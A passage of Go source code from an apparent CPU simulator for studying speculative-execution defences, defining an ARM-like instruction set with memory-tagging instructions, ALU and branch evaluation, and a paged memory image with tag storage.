	case AND:
		return ALUResult{Value: rn & rm}
	case ORR:
		return ALUResult{Value: rn | rm}
	case EOR:
		return ALUResult{Value: rn ^ rm}
	case LSL:
		return ALUResult{Value: shl(rn, rm)}
	case LSR:
		return ALUResult{Value: shr(rn, rm)}
	case ASR:
		return ALUResult{Value: sar(rn, rm)}
	case MUL:
		return ALUResult{Value: rn * rm}
	case UDIV:
		if rm == 0 {
			return ALUResult{Value: 0} // ARM semantics: divide by zero yields 0
		}
		return ALUResult{Value: rn / rm}
	case SDIV:
		if rm == 0 {
			return ALUResult{Value: 0}
		}
		return ALUResult{Value: uint64(int64(rn) / int64(rm))}
	case CSEL:
		if in.Cond.Holds(input.Flags) {
			return ALUResult{Value: rn}
		}
		return ALUResult{Value: rm}
	case IRG:
		// Exclusion mask comes from Rm's low 16 bits (GMI convention).
		exclude := rm & 0xffff
		t := chooseTag(rn^input.TagSeed, exclude)
		return ALUResult{Value: withTag(rn, t)}
	case ADDG:
		p := rn + uint64(in.Imm)
		return ALUResult{Value: withTag(p, addSat4(ptrTag(rn), uint64(in.Imm2)))}
	case SUBG:
		p := rn - uint64(in.Imm)
		return ALUResult{Value: withTag(p, addSat4(ptrTag(rn), 16-uint64(in.Imm2)&0xf))}
	case GMI:
		return ALUResult{Value: rm | 1<<ptrTag(rn)}
	}
	return ALUResult{}
}

func shl(v, s uint64) uint64 {
	if s >= 64 {
		return 0
	}
	return v << s
}

func shr(v, s uint64) uint64 {
	if s >= 64 {
		return 0
	}
	return v >> s
}

func sar(v, s uint64) uint64 {
	if s >= 64 {
		s = 63
	}
	return uint64(int64(v) >> s)
}

func addFlags(a, b uint64) (uint64, Flags) {
	r := a + b
	return r, Flags{
		N: int64(r) < 0,
		Z: r == 0,
		C: r < a,
		V: (int64(a) >= 0) == (int64(b) >= 0) && (int64(r) >= 0) != (int64(a) >= 0),
	}
}

func subFlags(a, b uint64) (uint64, Flags) {
	r := a - b
	return r, Flags{
		N: int64(r) < 0,
		Z: r == 0,
		C: a >= b, // ARM: C set when no borrow
		V: (int64(a) >= 0) != (int64(b) >= 0) && (int64(r) >= 0) != (int64(a) >= 0),
	}
}

// BranchOutcome is the resolved behaviour of a control-flow instruction.
type BranchOutcome struct {
	Taken  bool
	Target uint64
	// Link holds the return address to write to LR for BL/BLR (PC+4);
	// valid when WritesLink.
	Link       uint64
	WritesLink bool
}

// EvalBranch resolves a branch at pc. rn is the value of the instruction's
// register operand (CBZ/CBNZ test value, BR/BLR/RET target).
func EvalBranch(in *Inst, pc uint64, rn uint64, flags Flags) BranchOutcome {
	next := pc + InstBytes
	switch in.Op {
	case B:
		return BranchOutcome{Taken: true, Target: uint64(in.Imm)}
	case BL:
		return BranchOutcome{Taken: true, Target: uint64(in.Imm), Link: next, WritesLink: true}
	case BCC:
		if in.Cond.Holds(flags) {
			return BranchOutcome{Taken: true, Target: uint64(in.Imm)}
		}
		return BranchOutcome{Target: next}
	case CBZ:
		if rn == 0 {
			return BranchOutcome{Taken: true, Target: uint64(in.Imm)}
		}
		return BranchOutcome{Target: next}
	case CBNZ:
		if rn != 0 {
			return BranchOutcome{Taken: true, Target: uint64(in.Imm)}
		}
		return BranchOutcome{Target: next}
	case BR:
		return BranchOutcome{Taken: true, Target: rn}
	case BLR:
		return BranchOutcome{Taken: true, Target: rn, Link: next, WritesLink: true}
	case RET:
		return BranchOutcome{Taken: true, Target: rn}
	}
	return BranchOutcome{Target: next}
}

// EffAddr computes a memory instruction's effective address (full pointer,
// MTE key byte included). rn is the base register value; rm the offset
// register value when the addressing mode is register-offset.
func EffAddr(in *Inst, rn, rm uint64) uint64 {
	if in.HasImm {
		return rn + uint64(in.Imm)
	}
	return rn + rm
}
