// Package isa defines the ARM-flavoured 64-bit instruction set executed by
// the simulator. It is a compact AArch64 subset extended with the Memory
// Tagging Extension (MTE) instructions that SpecASan builds on, plus the
// handful of system instructions the attack PoCs and workloads need
// (cycle counter reads, cache maintenance, BTI landing pads, barriers).
//
// Instructions are represented as decoded structs rather than binary
// encodings: the simulator models microarchitectural timing, and a decoded
// representation keeps every pipeline stage honest without an artificial
// encode/decode round trip.
package isa

import "fmt"

// Reg names an architectural register. X0..X30 are general purpose, XZR is
// the always-zero register, SP the stack pointer. The program counter is not
// a Reg; branches manipulate it explicitly.
type Reg uint8

// Architectural registers.
const (
	X0 Reg = iota
	X1
	X2
	X3
	X4
	X5
	X6
	X7
	X8
	X9
	X10
	X11
	X12
	X13
	X14
	X15
	X16
	X17
	X18
	X19
	X20
	X21
	X22
	X23
	X24
	X25
	X26
	X27
	X28
	X29
	X30
	XZR // reads as zero, writes discarded
	SP
	NumRegs // count of architectural registers
)

// LR is the conventional link register written by BL/BLR.
const LR = X30

// String returns the assembly name of the register.
func (r Reg) String() string {
	switch {
	case r < XZR:
		return fmt.Sprintf("X%d", uint8(r))
	case r == XZR:
		return "XZR"
	case r == SP:
		return "SP"
	default:
		return fmt.Sprintf("R?%d", uint8(r))
	}
}

// Op is an operation code.
type Op uint8

// Operation codes. The comments give the assembly form accepted by
// package asm.
const (
	NOP Op = iota

	// Data processing (register/immediate). Rd, Rn, Rm or Imm.
	MOV  // MOV Xd, Xn | MOV Xd, #imm
	MOVK // MOVK Xd, #imm, LSL #shift (insert 16 bits)
	ADD  // ADD Xd, Xn, Xm | ADD Xd, Xn, #imm
	ADDS // ADDS Xd, Xn, Xm|#imm (sets NZCV)
	SUB  // SUB Xd, Xn, Xm|#imm
	SUBS // SUBS Xd, Xn, Xm|#imm (sets NZCV)
	CMP  // CMP Xn, Xm|#imm (alias SUBS XZR, ...)
	AND  // AND Xd, Xn, Xm|#imm
	ORR  // ORR Xd, Xn, Xm|#imm
	EOR  // EOR Xd, Xn, Xm|#imm
	LSL  // LSL Xd, Xn, Xm|#imm
	LSR  // LSR Xd, Xn, Xm|#imm
	ASR  // ASR Xd, Xn, Xm|#imm
	MUL  // MUL Xd, Xn, Xm
	UDIV // UDIV Xd, Xn, Xm
	SDIV // SDIV Xd, Xn, Xm
	CSEL // CSEL Xd, Xn, Xm, cond

	// Memory. Address is [Xn, #imm] or [Xn, Xm] (register offset).
	LDR   // LDR Xd, [Xn, #imm] | LDR Xd, [Xn, Xm]
	LDRB  // LDRB Xd, [...]
	STR   // STR Xs, [...]
	STRB  // STRB Xs, [...]
	SWPAL // SWPAL Xs, Xd, [Xn]  atomic swap (acquire/release)

	// Branches.
	B    // B label
	BCC  // B.cond label
	CBZ  // CBZ Xn, label
	CBNZ // CBNZ Xn, label
	BL   // BL label (writes LR)
	BR   // BR Xn (indirect)
	BLR  // BLR Xn (indirect call, writes LR)
	RET  // RET | RET Xn (default X30)

	// MTE (Memory Tagging Extension).
	IRG  // IRG Xd, Xn[, Xm]   insert random tag (Xm excludes tags)
	ADDG // ADDG Xd, Xn, #uimm, #tagoff   add to address and tag
	SUBG // SUBG Xd, Xn, #uimm, #tagoff
	GMI  // GMI Xd, Xn, Xm     tag exclusion mask
	STG  // STG Xt, [Xn]       store allocation tag for granule
	ST2G // ST2G Xt, [Xn]      store allocation tag for two granules
	LDG  // LDG Xt, [Xn]       load allocation tag into Xt's tag field

	// System.
	MRS   // MRS Xd, CNTVCT_EL0 (cycle counter)
	DC    // DC CIVAC, Xn (clean+invalidate by VA) — Flush part of Flush+Reload
	DSB   // DSB SY — full barrier, drains speculation
	ISB   // ISB
	BTI   // BTI (branch target identification landing pad)
	SVC   // SVC #imm (0 = exit, 1 = print X0 as int, 2 = print char in X0)
	HLT   // HLT — stop the core
	YIELD // YIELD — hint, single cycle

	NumOps // count of operations
)

var opNames = [NumOps]string{
	NOP: "NOP", MOV: "MOV", MOVK: "MOVK", ADD: "ADD", ADDS: "ADDS",
	SUB: "SUB", SUBS: "SUBS", CMP: "CMP", AND: "AND", ORR: "ORR",
	EOR: "EOR", LSL: "LSL", LSR: "LSR", ASR: "ASR", MUL: "MUL",
	UDIV: "UDIV", SDIV: "SDIV", CSEL: "CSEL",
	LDR: "LDR", LDRB: "LDRB", STR: "STR", STRB: "STRB", SWPAL: "SWPAL",
	B: "B", BCC: "B.", CBZ: "CBZ", CBNZ: "CBNZ", BL: "BL", BR: "BR",
	BLR: "BLR", RET: "RET",
	IRG: "IRG", ADDG: "ADDG", SUBG: "SUBG", GMI: "GMI",
	STG: "STG", ST2G: "ST2G", LDG: "LDG",
	MRS: "MRS", DC: "DC", DSB: "DSB", ISB: "ISB", BTI: "BTI",
	SVC: "SVC", HLT: "HLT", YIELD: "YIELD",
}

// String returns the mnemonic for the op.
func (o Op) String() string {
	if int(o) < len(opNames) && opNames[o] != "" {
		return opNames[o]
	}
	return fmt.Sprintf("OP(%d)", uint8(o))
}

// Cond is a branch condition evaluated against the NZCV flags.
type Cond uint8

// Branch conditions (ARM encodings).
const (
	EQ Cond = iota // Z
	NE             // !Z
	HS             // C (unsigned >=)
	LO             // !C (unsigned <)
	MI             // N
	PL             // !N
	VS             // V
	VC             // !V
	HI             // C && !Z (unsigned >)
	LS             // !C || Z (unsigned <=)
	GE             // N == V
	LT             // N != V
	GT             // !Z && N == V
	LE             // Z || N != V
	AL             // always
)

var condNames = [...]string{
	EQ: "EQ", NE: "NE", HS: "HS", LO: "LO", MI: "MI", PL: "PL",
	VS: "VS", VC: "VC", HI: "HI", LS: "LS", GE: "GE", LT: "LT",
	GT: "GT", LE: "LE", AL: "AL",
}

// String returns the condition mnemonic suffix.
func (c Cond) String() string {
	if int(c) < len(condNames) {
		return condNames[c]
	}
	return fmt.Sprintf("C?%d", uint8(c))
}

// Flags holds the NZCV condition flags.
type Flags struct {
	N, Z, C, V bool
}

// Holds reports whether the condition is satisfied by the flags.
func (c Cond) Holds(f Flags) bool {
	switch c {
	case EQ:
		return f.Z
	case NE:
		return !f.Z
	case HS:
		return f.C
	case LO:
		return !f.C
	case MI:
		return f.N
	case PL:
		return !f.N
	case VS:
		return f.V
	case VC:
		return !f.V
	case HI:
		return f.C && !f.Z
	case LS:
		return !f.C || f.Z
	case GE:
		return f.N == f.V
	case LT:
		return f.N != f.V
	case GT:
		return !f.Z && f.N == f.V
	case LE:
		return f.Z || f.N != f.V
	case AL:
		return true
	default:
		return false
	}
}

// Inst is one decoded instruction. Field usage depends on Op; unused fields
// are zero. Addr/Label resolution happens in the assembler: branch targets
// become absolute instruction addresses in Imm.
type Inst struct {
	Op   Op
	Cond Cond // for BCC, CSEL
	Rd   Reg  // destination
	Rn   Reg  // first source / base
	Rm   Reg  // second source / offset register
	Imm  int64
	// HasImm distinguishes "ADD Xd, Xn, #0" from "ADD Xd, Xn, Xm" when
	// Rm would be X0.
	HasImm bool
	// Imm2 is the second immediate (MOVK shift, ADDG/SUBG tag offset).
	Imm2 int64

	// Decode cache: operand lists and classification are pure functions of
	// the fields above, and the pipeline asks for them every cycle an
	// instruction is in flight. The assembler calls Decode once per placed
	// instruction; a zero info means "not decoded" and every accessor falls
	// back to computing from Op, so hand-built Insts stay correct.
	info     instInfo
	class    Class
	nSrc     uint8
	nDst     uint8
	srcCache [3]Reg
	dstCache [1]Reg
}

// instInfo is the decoded predicate bitset cached on an Inst.
type instInfo uint8

const (
	infoDecoded instInfo = 1 << iota
	infoLoad
	infoStore
	infoBranch
	infoWritesFlags
	infoReadsFlags
)

// Decode fills the cached operand lists and classification. It is
// idempotent, and safe to skip: accessors on a non-decoded Inst compute
// the same answers from Op. Call it only from single-threaded program
// construction (the assembler) — it mutates the Inst.
func (in *Inst) Decode() {
	in.info = 0
	in.class = in.Classify()
	in.nSrc = uint8(len(in.Srcs(in.srcCache[:0])))
	in.nDst = uint8(len(in.Dsts(in.dstCache[:0])))
	var f instInfo = infoDecoded
	if in.IsLoad() {
		f |= infoLoad
	}
	if in.IsStore() {
		f |= infoStore
	}
	if in.IsBranch() {
		f |= infoBranch
	}
	if in.WritesFlags() {
		f |= infoWritesFlags
	}
	if in.ReadsFlags() {
		f |= infoReadsFlags
	}
	in.info = f
}

// Class is the coarse functional class of an instruction, used by the issue
// logic to pick an execution port and by the security policies to classify
// "transmit" instructions.
type Class uint8

// Instruction classes.
const (
	ClassNop Class = iota
	ClassALU
	ClassMulDiv
	ClassLoad
	ClassStore
	ClassAtomic
	ClassBranch
	ClassIndirect // BR/BLR/RET — indirect control flow
	ClassTagOp    // STG/ST2G/LDG — tag memory ops
	ClassSystem
)

// Classify returns the functional class of the instruction.
func (in *Inst) Classify() Class {
	if in.info&infoDecoded != 0 {
		return in.class
	}
	switch in.Op {
	case NOP, BTI, YIELD, ISB:
		return ClassNop
	case MOV, MOVK, ADD, ADDS, SUB, SUBS, CMP, AND, ORR, EOR,
		LSL, LSR, ASR, CSEL, IRG, ADDG, SUBG, GMI:
		return ClassALU
	case MUL, UDIV, SDIV:
		return ClassMulDiv
	case LDR, LDRB, LDG:
		if in.Op == LDG {
			return ClassTagOp
		}
		return ClassLoad
	case STR, STRB:
		return ClassStore
	case STG, ST2G:
		return ClassTagOp
	case SWPAL:
		return ClassAtomic
	case B, BCC, CBZ, CBNZ, BL:
		return ClassBranch
	case BR, BLR, RET:
		return ClassIndirect
	case MRS, DC, DSB, SVC, HLT:
		return ClassSystem
	default:
		return ClassNop
	}
}

// IsMemAccess reports whether the instruction reads or writes data memory
// (tag ops included: they access tag storage through the same path).
func (in *Inst) IsMemAccess() bool {
	switch in.Classify() {
	case ClassLoad, ClassStore, ClassAtomic, ClassTagOp:
		return true
	}
	return in.Op == DC
}

// IsLoad reports whether the instruction reads data memory.
func (in *Inst) IsLoad() bool {
	if in.info&infoDecoded != 0 {
		return in.info&infoLoad != 0
	}
	switch in.Op {
	case LDR, LDRB, SWPAL, LDG:
		return true
	}
	return false
}

// IsStore reports whether the instruction writes data memory.
func (in *Inst) IsStore() bool {
	if in.info&infoDecoded != 0 {
		return in.info&infoStore != 0
	}
	switch in.Op {
	case STR, STRB, SWPAL, STG, ST2G:
		return true
	}
	return false
}

// IsBranch reports whether the instruction can redirect control flow.
func (in *Inst) IsBranch() bool {
	if in.info&infoDecoded != 0 {
		return in.info&infoBranch != 0
	}
	switch in.Classify() {
	case ClassBranch, ClassIndirect:
		return true
	}
	return false
}

// IsConditional reports whether the branch outcome depends on runtime state.
func (in *Inst) IsConditional() bool {
	switch in.Op {
	case BCC, CBZ, CBNZ:
		return true
	}
	return false
}

// MemBytes returns the access width in bytes for memory instructions, 0
// otherwise.
func (in *Inst) MemBytes() int {
	switch in.Op {
	case LDR, STR, SWPAL:
		return 8
	case LDRB, STRB:
		return 1
	case STG, ST2G, LDG:
		return 16 // tag granule
	case DC:
		return 64 // cache line
	}
	return 0
}

// Srcs appends the architectural source registers read by the instruction.
// XZR sources are included (they are trivially ready).
func (in *Inst) Srcs(dst []Reg) []Reg {
	if in.info&infoDecoded != 0 {
		// Element-wise appends: the spread form memmoves even for the
		// common 1-2 source registers.
		for i := uint8(0); i < in.nSrc; i++ {
			dst = append(dst, in.srcCache[i])
		}
		return dst
	}
	add := func(r Reg) {
		if r < NumRegs {
			dst = append(dst, r)
		}
	}
	switch in.Op {
	case NOP, B, BL, DSB, ISB, BTI, HLT, YIELD, MRS:
	case MOV:
		if !in.HasImm {
			add(in.Rn)
		}
	case MOVK:
		add(in.Rd) // read-modify-write
	case ADD, ADDS, SUB, SUBS, AND, ORR, EOR, LSL, LSR, ASR:
		add(in.Rn)
		if !in.HasImm {
			add(in.Rm)
		}
	case CMP:
		add(in.Rn)
		if !in.HasImm {
			add(in.Rm)
		}
	case MUL, UDIV, SDIV, GMI:
		add(in.Rn)
		add(in.Rm)
	case CSEL:
		add(in.Rn)
		add(in.Rm)
	case LDR, LDRB, LDG:
		add(in.Rn)
		if !in.HasImm {
			add(in.Rm)
		}
	case STR, STRB:
		add(in.Rd) // store data
		add(in.Rn)
		if !in.HasImm {
			add(in.Rm)
		}
	case STG, ST2G:
		add(in.Rd) // tag source
		add(in.Rn)
	case SWPAL:
		add(in.Rd) // swap-in value
		add(in.Rn)
	case BCC:
		// reads flags; modelled separately
	case CBZ, CBNZ:
		add(in.Rn)
	case BR, BLR:
		add(in.Rn)
	case RET:
		add(in.Rn) // assembler defaults bare RET to X30
	case IRG, ADDG, SUBG:
		add(in.Rn)
		if in.Op == IRG && in.Rm < NumRegs && in.Rm != XZR {
			add(in.Rm)
		}
	case DC:
		add(in.Rn)
	case SVC:
		add(X0)
	}
	return dst
}

// Dsts appends the architectural destination registers written by the
// instruction. XZR destinations are omitted (writes are discarded).
func (in *Inst) Dsts(dst []Reg) []Reg {
	if in.info&infoDecoded != 0 {
		if in.nDst != 0 {
			dst = append(dst, in.dstCache[0])
		}
		return dst
	}
	add := func(r Reg) {
		if r < NumRegs && r != XZR {
			dst = append(dst, r)
		}
	}
	switch in.Op {
	case MOV, MOVK, ADD, ADDS, SUB, SUBS, AND, ORR, EOR, LSL, LSR, ASR,
		MUL, UDIV, SDIV, CSEL, LDR, LDRB, IRG, ADDG, SUBG, GMI, LDG, MRS:
		add(in.Rd)
	case SWPAL:
		add(in.Rm) // SWPAL Xs, Xt, [Xn]: Xt receives old memory value
	case BL, BLR:
		add(LR)
	}
	return dst
}

// DstReg returns the destination register and whether one exists. No
// instruction in this ISA writes more than one register (Dsts never
// returns XZR, and neither does this).
func (in *Inst) DstReg() (Reg, bool) {
	if in.info&infoDecoded != 0 {
		return in.dstCache[0], in.nDst != 0
	}
	var buf [1]Reg
	d := in.Dsts(buf[:0])
	if len(d) == 0 {
		return 0, false
	}
	return d[0], true
}

// WritesFlags reports whether the instruction updates NZCV.
func (in *Inst) WritesFlags() bool {
	if in.info&infoDecoded != 0 {
		return in.info&infoWritesFlags != 0
	}
	switch in.Op {
	case ADDS, SUBS, CMP:
		return true
	}
	return false
}

// ReadsFlags reports whether the instruction reads NZCV.
func (in *Inst) ReadsFlags() bool {
	if in.info&infoDecoded != 0 {
		return in.info&infoReadsFlags != 0
	}
	switch in.Op {
	case BCC, CSEL:
		return true
	}
	return false
}

// String disassembles the instruction.
func (in *Inst) String() string {
	switch in.Op {
	case NOP, DSB, ISB, BTI, HLT, YIELD:
		return in.Op.String()
	case MOV:
		if in.HasImm {
			return fmt.Sprintf("MOV %s, #%d", in.Rd, in.Imm)
		}
		return fmt.Sprintf("MOV %s, %s", in.Rd, in.Rn)
	case MOVK:
		return fmt.Sprintf("MOVK %s, #%d, LSL #%d", in.Rd, in.Imm, in.Imm2)
	case ADD, ADDS, SUB, SUBS, AND, ORR, EOR, LSL, LSR, ASR:
		if in.HasImm {
			return fmt.Sprintf("%s %s, %s, #%d", in.Op, in.Rd, in.Rn, in.Imm)
		}
		return fmt.Sprintf("%s %s, %s, %s", in.Op, in.Rd, in.Rn, in.Rm)
	case CMP:
		if in.HasImm {
			return fmt.Sprintf("CMP %s, #%d", in.Rn, in.Imm)
		}
		return fmt.Sprintf("CMP %s, %s", in.Rn, in.Rm)
	case MUL, UDIV, SDIV, GMI:
		return fmt.Sprintf("%s %s, %s, %s", in.Op, in.Rd, in.Rn, in.Rm)
	case CSEL:
		return fmt.Sprintf("CSEL %s, %s, %s, %s", in.Rd, in.Rn, in.Rm, in.Cond)
	case LDR, LDRB:
		if in.HasImm {
			return fmt.Sprintf("%s %s, [%s, #%d]", in.Op, in.Rd, in.Rn, in.Imm)
		}
		return fmt.Sprintf("%s %s, [%s, %s]", in.Op, in.Rd, in.Rn, in.Rm)
	case STR, STRB:
		if in.HasImm {
			return fmt.Sprintf("%s %s, [%s, #%d]", in.Op, in.Rd, in.Rn, in.Imm)
		}
		return fmt.Sprintf("%s %s, [%s, %s]", in.Op, in.Rd, in.Rn, in.Rm)
	case SWPAL:
		return fmt.Sprintf("SWPAL %s, %s, [%s]", in.Rd, in.Rm, in.Rn)
	case B, BL:
		return fmt.Sprintf("%s 0x%x", in.Op, in.Imm)
	case BCC:
		return fmt.Sprintf("B.%s 0x%x", in.Cond, in.Imm)
	case CBZ, CBNZ:
		return fmt.Sprintf("%s %s, 0x%x", in.Op, in.Rn, in.Imm)
	case BR, BLR:
		return fmt.Sprintf("%s %s", in.Op, in.Rn)
	case RET:
		if in.Rn != LR {
			return fmt.Sprintf("RET %s", in.Rn)
		}
		return "RET"
	case IRG:
		if in.Rm < NumRegs && in.Rm != XZR {
			return fmt.Sprintf("IRG %s, %s, %s", in.Rd, in.Rn, in.Rm)
		}
		return fmt.Sprintf("IRG %s, %s", in.Rd, in.Rn)
	case ADDG, SUBG:
		return fmt.Sprintf("%s %s, %s, #%d, #%d", in.Op, in.Rd, in.Rn, in.Imm, in.Imm2)
	case STG, ST2G, LDG:
		return fmt.Sprintf("%s %s, [%s]", in.Op, in.Rd, in.Rn)
	case MRS:
		return fmt.Sprintf("MRS %s, CNTVCT_EL0", in.Rd)
	case DC:
		return fmt.Sprintf("DC CIVAC, %s", in.Rn)
	case SVC:
		return fmt.Sprintf("SVC #%d", in.Imm)
	default:
		return in.Op.String()
	}
}

// InstBytes is the architectural size of one instruction; PCs advance by it.
const InstBytes = 4
