// Package mem provides the functional memory image (a sparse, paged byte
// store plus the MTE tag storage) and the timing model of the DRAM channel
// and memory controller.
//
// Functional state and timing are deliberately separated: stores reach the
// image only at commit, so the image always holds the committed architectural
// state, while caches, the LFB and the controller model *when* bytes and tag
// checks become visible. The memory controller issues the data fetch and the
// tag-storage fetch as two parallel requests and reports the tag-check
// outcome with the response (§3.3.4 of the paper); on a tag mismatch for a
// speculative request the data is withheld.
package mem

import (
	"encoding/binary"
	"fmt"
	"sort"

	"specasan/internal/asm"
	"specasan/internal/isa"
	"specasan/internal/mte"
)

const (
	pageShift = 12
	pageBytes = 1 << pageShift
	pageMask  = pageBytes - 1

	// granulesPerPage pairs the tag sidecar with the data frame: one lock
	// byte per 16-byte MTE granule of the page.
	granulesPerPage = pageBytes / mte.GranuleBytes
	granuleShift    = pageShift - 4 // log2(granulesPerPage)

	// rootPages bounds the directly-indexed part of the page table: page
	// numbers below it (the first 4 GiB of address space, where programs
	// live) resolve with one slice index; anything above — fuzz programs
	// can .org anywhere in the 56-bit space — falls back to a sparse map.
	rootPages = 1 << 20
)

// page is one 4 KiB frame of committed memory plus its MTE tag sidecar, so
// a data+tag pair for an address is two indexed loads into the same frame.
type page struct {
	data   [pageBytes]byte
	locks  [granulesPerPage]mte.Tag
	tagged int32 // non-zero entries in locks
}

// Image is the committed architectural memory: sparse 4 KiB pages indexed
// through a two-level table (flat slice for low pages, map overflow for the
// rest) plus the authoritative MTE tag storage, which lives inline in the
// page frames.
type Image struct {
	root     []*page          // page number -> frame, for pn < rootPages
	high     map[uint64]*page // overflow for pn >= rootPages
	numPages int
	tagged   int // non-zero granule locks across all pages

	// Tags is the architectural tag store, viewing the per-page sidecars.
	Tags *mte.Storage
}

// NewImage returns an empty memory image.
func NewImage() *Image {
	m := &Image{}
	m.Tags = mte.NewStorageOn(m)
	return m
}

// FrameAt returns the data and tag-lock slices of the mapped 4 KiB page
// containing addr (key bits ignored), or nils when the page is unmapped. The
// slices alias the live page: callers may read and write data through them
// but must treat the lock slice as read-only (lock writes go through Tags so
// the tagged-granule accounting stays correct). The golden interpreter uses
// this as a one-entry TLB on its load/store fast path.
func (m *Image) FrameAt(addr uint64) ([]byte, []mte.Tag) {
	if p := m.pageAt(mte.Strip(addr) >> pageShift); p != nil {
		return p.data[:], p.locks[:]
	}
	return nil, nil
}

// FrameFor is FrameAt but maps the page when absent (the store path).
func (m *Image) FrameFor(addr uint64) ([]byte, []mte.Tag) {
	p := m.pageFor(mte.Strip(addr) >> pageShift)
	return p.data[:], p.locks[:]
}

// Clone returns a deep copy of the image: every mapped page frame is copied
// including its MTE tag sidecar, and the copy gets its own tag-storage view.
// Writes to either image never alias the other. This is the memory half of
// the golden-interpreter state transplant.
func (m *Image) Clone() *Image {
	c := &Image{numPages: m.numPages, tagged: m.tagged}
	c.Tags = mte.NewStorageOn(c)
	if m.root != nil {
		c.root = make([]*page, len(m.root))
		for pn, p := range m.root {
			if p != nil {
				cp := new(page)
				*cp = *p
				c.root[pn] = cp
			}
		}
	}
	if m.high != nil {
		c.high = make(map[uint64]*page, len(m.high))
		for pn, p := range m.high {
			cp := new(page)
			*cp = *p
			c.high[pn] = cp
		}
	}
	return c
}

// pageAt returns the frame for page number pn, or nil when unmapped.
func (m *Image) pageAt(pn uint64) *page {
	if pn < uint64(len(m.root)) {
		return m.root[pn]
	}
	if pn >= rootPages {
		return m.high[pn]
	}
	return nil
}

// pageFor returns the frame for page number pn, mapping it if needed.
func (m *Image) pageFor(pn uint64) *page {
	if p := m.pageAt(pn); p != nil {
		return p
	}
	p := new(page)
	if pn < rootPages {
		if pn >= uint64(len(m.root)) {
			n := uint64(len(m.root)) * 2
			if n < 64 {
				n = 64
			}
			for n <= pn {
				n *= 2
			}
			if n > rootPages {
				n = rootPages
			}
			grown := make([]*page, n)
			copy(grown, m.root)
			m.root = grown
		}
		m.root[pn] = p
	} else {
		if m.high == nil {
			m.high = make(map[uint64]*page)
		}
		m.high[pn] = p
	}
	m.numPages++
	return p
}

// PageAddrs returns the base address of every allocated page, sorted — the
// iteration surface for whole-memory comparison in differential tests.
func (m *Image) PageAddrs() []uint64 {
	out := make([]uint64, 0, m.numPages)
	for pn, p := range m.root {
		if p != nil {
			out = append(out, uint64(pn)*pageBytes)
		}
	}
	for pn := range m.high {
		out = append(out, pn*pageBytes)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// PageBytes is the image's page granularity.
const PageBytes = pageBytes

// ByteAt returns the byte at the (tag-stripped) address.
func (m *Image) ByteAt(addr uint64) byte {
	addr = mte.Strip(addr)
	if p := m.pageAt(addr >> pageShift); p != nil {
		return p.data[addr&pageMask]
	}
	return 0
}

// SetByte stores one byte at the (tag-stripped) address.
func (m *Image) SetByte(addr uint64, v byte) {
	addr = mte.Strip(addr)
	m.pageFor(addr >> pageShift).data[addr&pageMask] = v
}

// Read copies size bytes starting at addr into a fresh slice.
func (m *Image) Read(addr uint64, size int) []byte {
	out := make([]byte, size)
	m.ReadInto(addr, out)
	return out
}

// ReadInto fills out with the bytes starting at addr (unmapped reads as 0),
// the allocation-free variant of Read for callers with a reusable buffer.
func (m *Image) ReadInto(addr uint64, out []byte) {
	for len(out) > 0 {
		addr = mte.Strip(addr)
		off := addr & pageMask
		n := uint64(pageBytes - off)
		if uint64(len(out)) < n {
			n = uint64(len(out))
		}
		if p := m.pageAt(addr >> pageShift); p != nil {
			copy(out[:n], p.data[off:off+n])
		} else {
			clear(out[:n])
		}
		addr += n
		out = out[n:]
	}
}

// Write stores the bytes starting at addr.
func (m *Image) Write(addr uint64, b []byte) {
	for len(b) > 0 {
		addr = mte.Strip(addr)
		off := addr & pageMask
		n := uint64(pageBytes - off)
		if uint64(len(b)) < n {
			n = uint64(len(b))
		}
		copy(m.pageFor(addr >> pageShift).data[off:off+n], b[:n])
		addr += n
		b = b[n:]
	}
}

// ReadU64 reads a little-endian 64-bit value.
func (m *Image) ReadU64(addr uint64) uint64 {
	addr = mte.Strip(addr)
	if off := addr & pageMask; off <= pageBytes-8 {
		p := m.pageAt(addr >> pageShift)
		if p == nil {
			return 0
		}
		return binary.LittleEndian.Uint64(p.data[off : off+8])
	}
	var v uint64
	for i := uint64(0); i < 8; i++ {
		v |= uint64(m.ByteAt(addr+i)) << (8 * i)
	}
	return v
}

// WriteU64 stores a little-endian 64-bit value.
func (m *Image) WriteU64(addr uint64, v uint64) {
	addr = mte.Strip(addr)
	if off := addr & pageMask; off <= pageBytes-8 {
		binary.LittleEndian.PutUint64(m.pageFor(addr >> pageShift).data[off:off+8], v)
		return
	}
	for i := uint64(0); i < 8; i++ {
		m.SetByte(addr+i, byte(v>>(8*i)))
	}
}

// ReadUint reads size bytes (1 or 8) as an unsigned little-endian integer.
func (m *Image) ReadUint(addr uint64, size int) uint64 {
	switch size {
	case 1:
		return uint64(m.ByteAt(addr))
	case 8:
		return m.ReadU64(addr)
	default:
		var v uint64
		for i := 0; i < size && i < 8; i++ {
			v |= uint64(m.ByteAt(addr+uint64(i))) << (8 * i)
		}
		return v
	}
}

// WriteUint stores size bytes (1 or 8) of v little-endian.
func (m *Image) WriteUint(addr uint64, v uint64, size int) {
	if size >= 8 {
		m.WriteU64(addr, v)
		return
	}
	for i := 0; i < size; i++ {
		m.SetByte(addr+uint64(i), byte(v>>(8*i)))
	}
}

// LockAtGranule returns the allocation tag of granule g from the page
// sidecar. Part of the mte.Backing implementation.
func (m *Image) LockAtGranule(g uint64) mte.Tag {
	if p := m.pageAt(g >> granuleShift); p != nil {
		return p.locks[g&(granulesPerPage-1)]
	}
	return 0
}

// SetLockAtGranule sets the allocation tag of granule g in the page sidecar,
// mapping the page if needed. Part of the mte.Backing implementation.
func (m *Image) SetLockAtGranule(g uint64, t mte.Tag) {
	pn := g >> granuleShift
	var p *page
	if t == 0 {
		// Clearing a tag on an unmapped page is a no-op; don't allocate.
		if p = m.pageAt(pn); p == nil {
			return
		}
	} else {
		p = m.pageFor(pn)
	}
	idx := g & (granulesPerPage - 1)
	old := p.locks[idx]
	if old == t {
		return
	}
	p.locks[idx] = t
	switch {
	case old == 0:
		p.tagged++
		m.tagged++
	case t == 0:
		p.tagged--
		m.tagged--
	}
}

// TaggedGranules returns the number of granules carrying a non-zero lock.
// Part of the mte.Backing implementation.
func (m *Image) TaggedGranules() int { return m.tagged }

// ForEachTagged calls f for every granule with a non-zero lock. Part of the
// mte.Backing implementation.
func (m *Image) ForEachTagged(f func(g uint64, t mte.Tag)) {
	walk := func(pn uint64, p *page) {
		if p == nil || p.tagged == 0 {
			return
		}
		base := pn << granuleShift
		for i, t := range p.locks {
			if t != 0 {
				f(base+uint64(i), t)
			}
		}
	}
	for pn, p := range m.root {
